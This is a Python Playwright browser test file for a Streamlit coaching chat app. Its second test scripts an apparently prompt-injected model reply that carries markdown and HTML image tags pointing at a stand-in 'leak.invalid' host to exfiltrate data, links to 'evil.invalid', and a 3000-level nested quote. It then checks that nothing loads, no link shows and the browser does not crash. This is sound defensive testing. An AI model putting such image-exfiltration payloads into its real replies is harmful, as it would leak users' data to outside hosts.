"""Coach chat in a real browser: start a chat, send two messages, see both streamed replies; a
prompt-injected reply loads nothing and shows no link.

One server and one model server for the module (a server start costs ~3.5 CPU s): each test has an
evaluation of its own in the shared database, and sets the model's replies before it chats.
"""

from __future__ import annotations

from collections.abc import Iterator

import pytest
from playwright.sync_api import expect

from lib.db import init_db, session_scope
from lib.models import EvaluationSnapshot
from lib.safe_markdown import MAX_NESTING
from lib.scripted_llm import LLMServer, start_llm_server
from tests import llm_server as fake
from tests.browser.conftest import StreamlitServer, settle

pytestmark = pytest.mark.browser

# Watches chat messages that read exactly each given text, over every DOM change from now on
# (Streamlit's faded elements of an earlier run included: a reader sees those too). `__messages()`
# says, per text, the most copies seen at once and whether the message shown now is the element in
# which the text first appeared (updated in place by the rerun, not replaced by a second copy).
_WATCH_MESSAGES = """(texts) => {
  window.__messagesWatch?.disconnect();
  const most = Object.fromEntries(texts.map(t => [t, 0]));
  const first = {};
  const shown = (t) => [...document.querySelectorAll('[data-testid="stChatMessage"]')].filter(m =>
    [...m.querySelectorAll('[data-testid="stMarkdownContainer"]')].some(b => b.textContent.trim() === t));
  const count = () => {
    for (const t of texts) {
      const now = shown(t);
      most[t] = Math.max(most[t], now.length);
      first[t] ??= now[0];
    }
  };
  count();
  window.__messagesWatch = new MutationObserver(count);
  window.__messagesWatch.observe(document.body, {subtree: true, childList: true, characterData: true});
  window.__messages = () => Object.fromEntries(texts.map(t => {
    const now = shown(t);
    return [t, {most: most[t], same: now.length === 1 && now[0] === first[t]}];
  }));
}"""
ONCE = {"most": 1, "same": True}


@pytest.fixture(scope="module")
def coach(
    module_app, tmp_path_factory: pytest.TempPathFactory
) -> Iterator[tuple[StreamlitServer, LLMServer]]:
    """The app over both tests' evaluations (snap_browser, snap_inject), and the model server it asks."""
    url = f"sqlite:///{tmp_path_factory.mktemp('coach') / 'coach.db'}"
    engine = init_db(url)
    with session_scope(engine) as s:
        for snapshot_id, question, answer in (
            ("snap_browser", "What is 2+2?", "It is 5."),
            ("snap_inject", "Q?", "A."),
        ):
            s.add(
                EvaluationSnapshot(
                    id=snapshot_id,
                    question=question,
                    model_answer=answer,
                    product="acme",
                    language="en",
                    user_scores_json={"truthfulness": {"score": 1}},
                    judge_scores_json={"truthfulness": {"score": 3}},
                )
            )
    engine.dispose()
    llm = start_llm_server()
    try:
        yield module_app(url, OPENAI_BASE_URL=llm.base_url, OPENAI_API_KEY="test"), llm
    finally:
        llm.stop()


def _reply(body: dict) -> fake.StreamReply:
    last = body["messages"][-1]["content"]
    if last.startswith("Open the conversation"):
        return fake.stream(["Welcome! ", "Truthfulness differs by 2."], delay=0.05)
    return fake.stream(["You asked: ", last, ". ", "Evidence says otherwise."], delay=0.05)


def test_two_messages_get_two_streamed_replies(coach, page) -> None:
    server, llm = coach
    llm.responder = _reply

    page.goto(f"{server.base_url}/coach?snapshot=snap_browser")
    try:
        _chat(page)
    except Exception:
        page.screenshot(path="/tmp/coach_fail.png", full_page=True)
        print("log:", server.log_path.read_text()[-2000:])
        raise


def _chat(page) -> None:
    settle(page)
    page.get_by_test_id("stMultiSelect").click()
    page.get_by_role("option", name="Truthfulness").click()
    page.keyboard.press("Escape")
    settle(page)
    greeting = "Welcome! Truthfulness differs by 2."
    page.evaluate(_WATCH_MESSAGES, [greeting])
    page.get_by_role("button", name="Start chat").click()
    settle(page)
    # The greeting streams, then the page reruns to show the chat: never two greetings on screen
    # (the rerun draws the chat's first message where the streamed one stands).
    assert page.evaluate("window.__messages()")[greeting]["most"] == 1

    replies = {q: f"You asked: {q}. Evidence says otherwise." for q in ("Why a 3?", "And how to fix it?")}
    for question, reply in replies.items():
        page.evaluate(_WATCH_MESSAGES, [question, reply])
        box = page.get_by_test_id("stChatInputTextArea")
        box.fill(question)
        box.press("Enter")
        settle(page)
        # Streamed, then redrawn by the rerun that follows: each message on screen once at every moment.
        assert page.evaluate("window.__messages()") == {question: ONCE, reply: ONCE}
        assert page.get_by_text(reply).count() == 1

    assert page.get_by_text("Evidence says otherwise.").count() == 2
    assert page.get_by_text("2 of 15 messages used").count() == 1
    assert page.dialogs == []


LEAK = "http://leak.invalid/pixel.png"


def test_injected_image_never_loads_and_deep_quote_renders(coach, page) -> None:
    """Issue #17: a prompt-injected reply may not make the reviewer's browser fetch anything, nor crash it;
    issue 24: nor show a link (links read as plain text, as in every other model text)."""
    server, llm = coach
    reply = (
        f"Summary ![secret]({LEAK}?q=answer) and ![ref][r] **bold**\n\n[r]: {LEAK}?ref\n\n"
        f"<img src='{LEAK}?html'>\n\n[click here](https://evil.invalid/a), https://evil.invalid/b, "
        "www.evil.invalid and me@evil.invalid\n\n" + "> " * 3000 + "deep quote end"
    )
    llm.responder = lambda body: fake.stream([reply], delay=0.0)
    requested: list[str] = []
    page.on("request", lambda request: requested.append(request.url))
    crashed: list[str] = []
    page.on("crash", lambda _: crashed.append("crash"))

    page.goto(f"{server.base_url}/coach?snapshot=snap_inject")
    settle(page)
    page.get_by_test_id("stMultiSelect").click()
    page.get_by_role("option", name="Truthfulness").click()
    page.keyboard.press("Escape")
    settle(page)
    page.get_by_role("button", name="Start chat").click()
    settle(page)  # the reply streamed and the chat drawn again: every image it holds was in the page
    expect(page.get_by_text("deep quote end")).to_be_visible()

    assert [u for u in requested if "leak.invalid" in u] == []
    assert crashed == []
    assert page.locator("[data-testid='stChatMessage'] img[src*='leak']").count() == 0
    assert page.locator("[data-testid='stChatMessage'] a").count() == 0
    assert page.get_by_text("click here").count() == 1  # the link's text is still there, as text
    assert page.locator("[data-testid='stChatMessage'] strong", has_text="bold").count() >= 1
    depth = page.evaluate(
        """() => Math.max(0, ...[...document.querySelectorAll('[data-testid="stChatMessage"] blockquote')]
            .map(q => { let d = 0; for (let e = q; e; e = e.parentElement && e.parentElement.closest('blockquote')) d++; return d; }))"""
    )
    assert 1 <= depth <= MAX_NESTING
    assert page.dialogs == []
